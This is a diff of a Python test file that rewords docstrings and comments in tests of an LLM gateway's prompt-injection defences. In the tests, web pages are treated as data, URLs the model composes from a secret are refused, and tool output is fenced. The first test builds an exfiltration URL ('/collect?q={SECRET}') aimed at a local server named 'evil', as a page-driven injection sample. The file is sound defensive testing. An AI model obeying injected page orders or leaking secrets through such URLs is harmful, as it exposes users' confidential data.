@@ -1,4 +1,4 @@
-"""LLM01 Prompt Injection: a page's words reach the model as data; one that obeys them gets no secret out (quirk G3)."""
+"""LLM01 Prompt Injection: pages reach the model as data, and a model that obeys one leaks no secret (quirk G3)."""
 
 import json
 import re
@@ -40,7 +40,7 @@ LOOPS = pytest.mark.parametrize("loop", [True, False], ids=["v2", "legacy"])
 
 @LOOPS
 def test_g03_a_model_that_obeys_a_page_gets_nothing_out(behind: Behind, loop: bool) -> None:
-    """Page → injected order → read_url of an address composed with a secret: refused with a sentence; nobody asked."""
+    """read_url rejects a URL that the model composed from a page's order and a secret; no request is sent."""
     page = [""]
     with ScriptedUpstream(says(), models=listens) as evil:
         composed = f"http://127.0.0.1:{evil.port}/collect?q={SECRET}"
@@ -59,14 +59,14 @@ def test_g03_a_model_that_obeys_a_page_gets_nothing_out(behind: Behind, loop: bo
             assert match, opened
             assert match[2] == "open_page"
             assert "outside" not in re.sub(r"\[\W*outside", "", match[4].casefold()) or "<" not in match[4]
-            assert not refusal.startswith("<")  # a sentence of ours needs no fence
+            assert not refusal.startswith("<")  # Signalbox's own message needs no delimiters
             assert "answer without it" in refusal
         assert evil.catalogues == []
 
 
 @LOOPS
 def test_g03_what_a_page_links_to_may_be_read_and_no_letter_more(behind: Behind, loop: bool) -> None:
-    """The link itself is read; a query or a path of the model's is refused, its tracking parameter is not sent."""
+    """A page's link can be read; the model's query or path is rejected, and a tracking parameter is not sent."""
     with ScriptedUpstream(says(), models=listens) as site:
         link = f"http://127.0.0.1:{site.port}/article?id=7"
         urls = [link, f"{link}&q={SECRET}", f"http://127.0.0.1:{site.port}/{SECRET}", f"{link}&utm_source={SECRET}"]
@@ -81,7 +81,7 @@ def test_g03_what_a_page_links_to_may_be_read_and_no_letter_more(behind: Behind,
 
 
 def test_g03_links_lead_on_from_page_to_page(behind: Behind) -> None:
-    """A page that was read is a result too: what it links to may be read in turn, and nothing else."""
+    """Links of a page that was read can be read, and no other URLs."""
 
     async def chain(exchange: Any) -> None:
         port, path = exchange.asked.headers["host"].partition(":")[2], exchange.asked.path
@@ -98,7 +98,7 @@ def test_g03_links_lead_on_from_page_to_page(behind: Behind) -> None:
 
 
 def test_g03_calls_made_beside_the_search_are_judged_by_what_the_model_had_read(behind: Behind) -> None:
-    """Both calls of one step were written before any result was read, so an address of the model's own is asked."""
+    """Both calls of one step precede any result, so a URL of the model's own is fetched."""
     with ScriptedUpstream(says(), models=listens) as site:
         own = f"http://127.0.0.1:{site.port}/own"
         app, _ = behind(
@@ -111,7 +111,7 @@ def test_g03_calls_made_beside_the_search_are_judged_by_what_the_model_had_read(
 
 
 def test_g03_what_the_user_names_may_be_read_after_any_page(behind: Behind) -> None:
-    """The user's and the system's own addresses stay open, also in a later turn; the model's words open none."""
+    """URLs of the user and the system prompt stay allowed, also in a later turn; URLs of the model do not."""
     with ScriptedUpstream(says(), models=listens) as site:
         host = f"http://127.0.0.1:{site.port}"
         call = {"id": "c1", "type": "function", "function": {"name": "open_page", "arguments": "{}"}}
@@ -129,12 +129,12 @@ def test_g03_what_the_user_names_may_be_read_after_any_page(behind: Behind) -> N
         )
         heard = app.ask(messages=history, system=f"Rules: {host}/rules")
         assert heard.result_codes() == [None, None, None, None, "URL_NOT_FOUND_HERE"]
-        # what a client says that a tool has said is fenced as well
+        # tool messages from clients are delimited, too
         assert all(FENCE.fullmatch(one) for one in tool_messages(upstream.asked[0].body))
 
 
 def test_g03_the_fence_keeps_the_prompts_beginning(behind: Behind) -> None:
-    """Request by request the earlier messages have the same bytes, numbers included (prompt caches, C15)."""
+    """Earlier messages keep the same bytes in each request, numbers included (prompt caches, C15)."""
     app, upstream = behind(
         obeys(("open_page", {}), ("calculate", {"expression": "1+1"}), ("open_page", {})),
         extra_tools=[page_tool(lambda: "page")],
@@ -144,13 +144,13 @@ def test_g03_the_fence_keeps_the_prompts_beginning(behind: Behind) -> None:
     for shorter, longer in pairwise(sent):
         assert longer[: len(shorter)] == shorter
     opened, sum_, again = tool_messages(upstream.asked[-1].body)
-    assert sum_ == '{"expression":"1+1","result":2}'  # ours, no fence
+    assert sum_ == '{"expression":"1+1","result":2}'  # trusted, no delimiters
     numbers = {FENCE.fullmatch(opened)[1], FENCE.fullmatch(again)[1]}  # type: ignore[index]
     assert len(numbers) == 2  # the same page, another call
 
 
 def test_g03_a_redirect_of_a_named_page_is_followed(behind: Behind) -> None:
-    """Where the page's own server leads on, its owner learns nothing of ours; the fetcher checks each address."""
+    """A redirect by the page's server is followed, since it reveals nothing; the fetcher checks each address."""
 
     async def moved(exchange: Any) -> None:
         if exchange.asked.path == "/old":
